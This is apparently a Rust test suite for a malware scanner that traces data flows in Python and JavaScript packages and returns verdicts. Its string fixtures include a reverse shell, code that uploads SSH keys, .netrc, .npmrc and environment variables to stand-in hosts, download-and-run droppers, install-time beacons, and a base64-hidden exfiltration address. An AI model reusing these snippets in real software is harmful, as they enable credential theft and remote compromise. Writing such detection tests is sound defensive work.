//! What the engines follow, told by `sluice dev` and by verdicts: one construct of a language each.

use crate::place::Place;

/// The paths of one file.
pub(crate) fn paths(name: &str, text: &str) -> String {
    Place::new().file(name, text).run(&["dev", "paths", name]).stdout
}

/// Verdict and behaviors of a package.
pub(crate) fn judged(files: &[(&str, &str)]) -> (String, Vec<String>) {
    let mut place = Place::new();
    for (name, text) in files {
        place = place.file(&format!("pkg/{name}"), text);
    }
    let review: serde_json::Value =
        serde_json::from_str(&place.run(&["review", "pkg", "--format", "json", "--fail-on", "none"]).stdout).unwrap();
    let ids = review["behaviors"].as_array().unwrap().iter().map(|found| found["id"].as_str().unwrap().to_owned());
    (review["verdict"].as_str().unwrap().to_owned(), ids.collect())
}

/// What is piped is written to what it is piped into, whatever that is.
#[test]
fn a_stream_is_written_where_it_is_piped_to() {
    let text = "const net = require('net');\nconst shell = require('child_process').spawn('/bin/sh', []);\nconst socket = new net.Socket();\nsocket.connect(4444, '192.0.2.7', () => { socket.pipe(shell.stdin); shell.stdout.pipe(socket); });\n";
    let paths = Place::new().file("known.js", text).run(&["dev", "paths", "known.js"]).stdout;
    assert!(paths.contains("network.response net.Socket -> process.input child_process.Stdin.write(chunk)"), "{paths}");
    assert!(paths.contains("-> network.send net.Socket.write(data)"), "{paths}");
    assert!(!paths.contains("file.write"), "{paths}");
}

/// An open file that is handed over, or gone through, is read.
#[test]
fn an_open_file_is_read_without_a_word() {
    let text = "import requests\n\ndef send(handle):\n    requests.post('https://files.example.invalid/a', data=handle)\n\nwith open('/home/user/.ssh/id_rsa', 'rb') as key:\n    send(key)\nwith open('/etc/hosts') as table:\n    for line in table:\n        requests.post('https://files.example.invalid/b', data=line)\nrequests.post('https://files.example.invalid/c', files={'a': ('a', open('/home/user/.netrc', 'rb'))})\n";
    let paths = Place::new().file("send.py", text).run(&["dev", "paths", "send.py"]).stdout;
    for wanted in [
        "file.credential builtins.file.read(/home/user/.ssh/id_rsa) -> network.send requests.post(data)",
        "file builtins.file.__iter__(/etc/hosts) -> network.send requests.post(data)",
        "file.credential builtins.file.read(/home/user/.netrc) -> network.send requests.post(files)",
    ] {
        assert!(paths.contains(wanted), "{wanted}\n{paths}");
    }
}

/// What a round of a loop did before it was broken off is there behind the loop, and before a further round.
#[test]
fn a_jump_out_of_a_loop_loses_nothing() {
    let text = "import os\nimport requests\n\ndef first():\n    found = None\n    for name in os.listdir('/srv'):\n        if name.endswith('.key'):\n            found = open('/srv/' + name).read()\n            break\n    if not found:\n        return\n    requests.post('https://files.example.invalid/a', data=found)\n\ndef orelse():\n    found = ''\n    for name in os.listdir('/srv'):\n        if name.endswith('.key'):\n            found = open('/srv/b').read()\n            break\n    else:\n        return\n    requests.post('https://files.example.invalid/b', data=found)\n\ndef again():\n    state = 4\n    while state:\n        if state == 4:\n            if os.path.exists('/srv/c'):\n                state = 2\n                continue\n            state = 5\n        elif state == 5:\n            state = 2\n        elif state == 2:\n            requests.post('https://files.example.invalid/c', data=open('/srv/c').read())\n            state = 0\n";
    let paths = Place::new().file("loops.py", text).run(&["dev", "paths", "loops.py"]).stdout;
    assert_eq!(paths.matches("-> network.send requests.post(data)").count(), 3, "{paths}");
}

/// A text that was tested for its ending has it, also where it is used behind the loop.
#[test]
fn a_tested_ending_belongs_to_the_name() {
    let text = "import os\nimport requests\n\ndef look():\n    found = None\n    for name in os.listdir('/srv/bot'):\n        if not name.endswith('.session'):\n            continue\n        found = os.path.join('/srv/bot', name)\n        break\n    if found:\n        with open(found, 'rb') as handle:\n            requests.post('https://files.example.invalid/a', files={'f': handle})\n";
    let paths = paths("look.py", text);
    assert!(paths.contains("file.credential builtins.file.read(/srv/bot/{}.session) -> network.send"), "{paths}");
}

/// What an inner function reads of the function around it is what that one was called with.
#[test]
fn a_closure_calls_what_was_passed() {
    let text = "import os\n\ndef make(run):\n    def inner(line):\n        run(line)\n    return inner\n\nstart = make(os.system)\nstart(os.environ['LINE'])\n";
    let paths = paths("make.py", text);
    assert!(paths.contains("environment os.environ(LINE) -> process.command os.system(command) proven"), "{paths}");
}

/// The pieces of a path are joined as far as they are known.
#[test]
fn a_path_is_joined_from_known_and_unknown_pieces() {
    let text = "const fs = require('fs'), path = require('path'), os = require('os');\nfor (const name of ['.npmrc', '.ssh/id_rsa']) {\n  const text = fs.readFileSync(path.join(os.homedir(), name), 'utf8');\n  fetch('https://files.example.invalid/a', { method: 'POST', body: text });\n}\n";
    let paths = paths("keys.js", text);
    assert!(paths.contains("file.credential fs.readFileSync({}/.npmrc) -> network.send fetch(body)"), "{paths}");
}

/// Assigning a property of a library's value does what its model says.
#[test]
fn a_property_that_is_assigned_sends() {
    let text = "const pixel = new Image();\npixel.src = 'https://count.example.invalid/?c=' + document.cookie;\n";
    let paths = paths("pixel.js", text);
    assert!(paths.contains("document.cookie -> network.destination Image.src(url) proven"), "{paths}");
    // A method that is replaced is not called.
    let text = "const request = new XMLHttpRequest();\nrequest.send = function (body) { console.log(body); };\n";
    let paths = Place::new().file("replaced.js", text).run(&["dev", "symbols", "replaced.js"]).stdout;
    assert!(!paths.contains("event XMLHttpRequest.send"), "{paths}");
}

/// A copy of a library in the package does what the library does.
#[test]
fn a_copy_of_a_library_is_the_library() {
    let copy = "def get(url, **options):\n    return _send('GET', url, options)\n\ndef _send(method, url, options):\n    return options.get('session').send(method, url)\n";
    let user = "import os\nimport requests\n\nanswer = requests.get('http://192.0.2.9/tool.exe')\nwith open('/tmp/tool.exe', 'wb') as out:\n    out.write(answer.content)\nos.startfile('/tmp/tool.exe')\n";
    let setup = "from setuptools import setup\nsetup(name='copy', version='1.0', packages=['copied', 'requests'])\n";
    let (verdict, found) = judged(&[("setup.py", setup), ("copied/__init__.py", user), ("requests/__init__.py", copy)]);
    assert_eq!(verdict, "malicious", "{found:?}");
    assert!(found.iter().any(|id| id == "dropper/unasked"), "{found:?}");
    // The same by the name under which another package carries it.
    let user = "import getpass\nimport socket\nfrom pip._vendor import requests\n\nrequests.post('http://192.0.2.9/a', data=getpass.getuser() + socket.gethostname())\n";
    let (verdict, found) = judged(&[
        ("setup.py", "from setuptools import setup\nsetup(name='vendored', version='1.0', packages=['vendored'])\n"),
        ("vendored/__init__.py", user),
    ]);
    assert_eq!(verdict, "malicious", "{found:?}");
}

/// A file of the package that is loaded by its path, or handed to an interpreter, runs when that is done.
#[test]
fn a_file_that_is_loaded_by_its_path_is_imported() {
    let report = "import getpass\nimport socket\nimport urllib.request\n\ndef run():\n    urllib.request.urlopen('http://192.0.2.9/?u=' + getpass.getuser() + socket.gethostname())\n\nrun()\n";
    let loads = "import importlib.util\nimport os\nfrom setuptools import setup\n\nplace = os.path.join(os.path.dirname(__file__), 'tools', '_post.py')\nspec = importlib.util.spec_from_file_location('_post', place)\nmodule = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(module)\nsetup(name='loads', version='1.0')\n";
    let runs = "import os\nimport subprocess\nimport sys\nfrom setuptools import setup\n\nplace = os.path.join(os.path.dirname(__file__), 'tools', '_post.py')\nsubprocess.Popen([sys.executable, place.replace('_post.py', 'post')])\nsetup(name='runs', version='1.0')\n";
    for (setup, file) in [(loads, "tools/_post.py"), (runs, "tools/post")] {
        let (verdict, found) = judged(&[("setup.py", setup), (file, report)]);
        assert_eq!(verdict, "malicious", "{file}: {found:?}");
        assert!(found.iter().any(|id| id == "beacon/install"), "{file}: {found:?}");
    }
}

/// A shell does what stands in the script that it is given, written by the code or brought along.
#[test]
fn a_script_of_a_shell_is_read() {
    let script = "#!/bin/sh\ncurl -s http://192.0.2.9/x -o /tmp/x\nchmod +x /tmp/x\n/tmp/x\n";
    let brought = "import subprocess\nfrom setuptools import setup\n\nsubprocess.call(['sh', 'tools/start.sh'])\nsetup(name='brought', version='1.0')\n";
    let (verdict, found) = judged(&[("setup.py", brought), ("tools/start.sh", script)]);
    assert_eq!(verdict, "malicious", "{found:?}");
    assert!(found.iter().any(|id| id == "dropper/unasked"), "{found:?}");
    let harmless = "#!/bin/sh\nmkdir -p build\ncp notes.txt build/\n";
    let (verdict, found) = judged(&[("setup.py", brought), ("tools/start.sh", harmless)]);
    // Its language has no front end: what was not read is not called clean.
    assert_eq!(verdict, "inconclusive", "{found:?}");
}

/// Of a text that is one of several each alternative is decoded, and each is a layer.
#[test]
fn every_alternative_is_opened() {
    let text = "import base64\nimport sys\n\ndef piece():\n    if sys.argv:\n        return 'cHJpbnQoMSk='\n    return 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnZWNobyBvbmUnKQ=='\n\nexec(base64.b64decode(piece()))\n";
    let layers = Place::new().file("piece.py", text).run(&["dev", "layers", "piece.py"]).stdout;
    assert!(layers.contains("print(1)") && layers.contains("echo one"), "{layers}");
}

/// An address that stands in the code only encoded, as the default of a parameter, is known.
#[test]
fn an_encoded_default_is_what_a_caller_leaves_out() {
    let text = "import base64\nimport requests\n\ndef send(entry, where='aHR0cHM6Ly9maWxlcy5leGFtcGxlLmludmFsaWQvcG9zdA=='):\n    requests.post(base64.b64decode(where).decode(), data=open(entry).read())\n";
    let (verdict, found) = judged(&[("send.py", text)]);
    assert_eq!(verdict, "malicious", "{found:?}");
    assert!(found.iter().any(|id| id == "exfiltration/hidden-address"), "{found:?}");
}

/// A sentence says when it happens: on installation, on import, or both.
#[test]
fn a_sentence_says_at_which_time() {
    let fetch = "import os\nimport urllib.request\n\nurllib.request.urlretrieve('http://192.0.2.9/x.sh', '/tmp/x.sh')\nos.system('sh /tmp/x.sh')\n";
    let setup = "from setuptools import setup\nsetup(name='when', version='1.0', packages=['when'])\n";
    let sentence = |files: &[(&str, &str)]| {
        let place = files.iter().fold(Place::new(), |place, (name, text)| place.file(&format!("pkg/{name}"), text));
        let out = place.run(&["review", "pkg", "--format", "json", "--fail-on", "none"]).stdout;
        let review: serde_json::Value = serde_json::from_str(&out).unwrap();
        let found = review["behaviors"].as_array().unwrap().clone();
        let unasked = found.iter().find(|found| found["id"] == "dropper/unasked").unwrap();
        unasked["sentence"].as_str().unwrap().to_owned()
    };
    let on_import = sentence(&[("setup.py", setup), ("when/__init__.py", fetch)]);
    assert!(on_import.starts_with("As soon as it is imported, it downloads"), "{on_import}");
    let on_install = sentence(&[("setup.py", &format!("{fetch}{setup}"))]);
    assert!(on_install.starts_with("As soon as it is installed, it downloads"), "{on_install}");
}

/// An environment is read by name; only the whole of it is the whole.
#[test]
fn a_variable_of_the_environment_is_not_the_environment() {
    let text = "const env = process.env;\nconst key = env.SERVICE_KEY;\nfetch('https://api.example.invalid/v1', { method: 'POST', headers: { 'X-Key': key }, body: JSON.stringify({ a: 1 }) });\n";
    let found = paths("client.js", text);
    assert!(found.contains("environment process.env(SERVICE_KEY) -> network.send fetch(headers) proven"), "{found}");
    let (verdict, behaviors) = judged(&[("client.js", text)]);
    assert_eq!(verdict, "benign", "{behaviors:?}");
    let text = "const env = process.env;\nconst home = env.HOME;\nfetch('https://api.example.invalid/v1', { method: 'POST', body: JSON.stringify(env) });\n";
    let (verdict, behaviors) = judged(&[("thief.js", text)]);
    assert_eq!(verdict, "malicious", "{behaviors:?}");
}

/// What is searched for in a text is not in the result; what takes its place is.
#[test]
fn a_secret_that_is_replaced_is_not_told_as_logged() {
    let text = "import os\n\ndef hide(data):\n    text = str(data)\n    print(text.replace(os.environ['SERVICE_TOKEN'], '***'))\n\ndef show(data):\n    text = str(data)\n    print(text.replace('***', os.environ['OTHER_TOKEN']))\n";
    let found = paths("show.py", text);
    assert!(!found.contains("os.environ(SERVICE_TOKEN)"), "{found}");
    assert!(found.contains("environment os.environ(OTHER_TOKEN) -> log print(args)"), "{found}");
}

/// What is written into a buffer in memory, or printed, is no file.
#[test]
fn a_buffer_in_memory_is_no_file() {
    let text = "import io\nimport json\n\ndef dump(rows):\n    buffer = io.StringIO()\n    json.dump(rows, buffer)\n    return buffer.getvalue()\n";
    let found = paths("dump.py", text);
    assert!(!found.contains("file.write"), "{found}");
}

/// Code that is executed as text adds meanings to a name; it takes none away, and code of another process adds none.
#[test]
fn an_executed_text_hides_no_name() {
    for first in [
        "exec('requests = None', {})",
        "exec('requests = None')",
        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import json as requests\\nprint(requests.dumps(1))'])",
    ] {
        let text = format!(
            "import os\nimport requests\n{first}\nrequests.post('https://collect.example.invalid/e', data=str(dict(os.environ)))\n"
        );
        let (verdict, found) = judged(&[("send.py", &text)]);
        assert_eq!(verdict, "malicious", "{first}: {found:?}");
    }
}

/// A function of one's own that may stand in the place of a library's is called too.
#[test]
fn an_alternative_to_a_library_is_no_copy_of_it() {
    let text = "import os\n\ndef fetch(url):\n    return os.environ['LOCAL_KEY']\n\nif os.name == 'nt':\n    from requests import get as fetch\nprint(fetch('https://files.example.invalid/a'))\n";
    let found = paths("fetch.py", text);
    assert!(found.contains("environment os.environ(LOCAL_KEY) -> log print(args)"), "{found}");
}

/// Only who stands inside of a copy of a library is told by its text, and not who has a name that begins so.
#[test]
fn a_name_that_begins_as_a_librarys_is_not_inside_of_it() {
    let setup =
        "from setuptools import setup\nsetup(name='near', version='1.0', packages=['requests', 'requests_near'])\n";
    let api = "def post(url, **options):\n    return options\n";
    let user = "import getpass\nimport socket\nfrom requests.api import post\n\npost('http://192.0.2.9/a', data=getpass.getuser() + socket.gethostname())\n";
    let (verdict, found) = judged(&[
        ("setup.py", setup),
        ("requests/__init__.py", "from .api import post\n"),
        ("requests/api.py", api),
        ("requests_near/__init__.py", user),
    ]);
    assert_eq!(verdict, "malicious", "{found:?}");
}

/// A list of which one item is not known tells nothing of what is in it.
#[test]
fn a_list_with_an_unknown_item_tells_nothing() {
    let text = "import requests\n\ndef ask(host, other):\n    if host in ('https://api.example.invalid', other):\n        requests.get(host)\n    if host in ('https://api.example.invalid', 'https://files.example.invalid'):\n        requests.head(host)\n";
    let values = Place::new().file("ask.py", text).run(&["dev", "values", "ask.py"]).stdout;
    assert!(
        values.contains("requests.get ask.py:5\n  url [network.destination] = `host` from parameter\n"),
        "{values}"
    );
    assert!(values.contains("requests.head ask.py:7\n  url [network.destination] = `https://api.example.invalid` or `https://files.example.invalid`"), "{values}");
}

/// What is perhaps an empty table is perhaps what another place put there.
#[test]
fn a_table_that_is_filled_elsewhere_is_asked() {
    let text = r#"import urllib.request
import yaml


class Hooks:
    def __init__(self):
        self.doc = {}

    def refresh(self):
        self.doc = yaml.unsafe_load(urllib.request.urlopen('https://cfg.example.invalid/v2').read())

    def apply(self):
        self.refresh()
        for hook in self.doc.get('hooks', []):
            eval(hook)
"#;
    let paths = Place::new().file("hooks.py", text).run(&["dev", "paths", "hooks.py"]).stdout;
    assert!(paths.contains("-> code.execute eval(source)"), "{paths}");
}

/// What chance picks from a text is not that text.
#[test]
fn a_name_of_random_letters_is_not_the_alphabet() {
    let text = r#"import random
import string
import requests

name = ''.join(random.choice(string.ascii_lowercase) for _ in range(12)) + '.txt'
requests.post('https://files.example.invalid/a', data=open(name).read())
"#;
    let paths = Place::new().file("name.py", text).run(&["dev", "paths", "name.py"]).stdout;
    assert!(paths.contains("-> network.send requests.post(data)"), "{paths}");
    assert!(!paths.contains("abcdefghijklmnopqrstuvwxyz"), "{paths}");
}

/// Settings that are written to a stream are read from no file there.
#[test]
fn what_is_told_what_to_read_is_no_open_file() {
    let text = "import configparser\nimport io\n\ndef kept():\n    config = configparser.RawConfigParser()\n    told = io.StringIO()\n    config.write(told)\n    return told.getvalue()\n";
    let paths = Place::new().file("kept.py", text).run(&["dev", "paths", "kept.py"]).stdout;
    assert!(!paths.contains("file "), "{paths}");
}
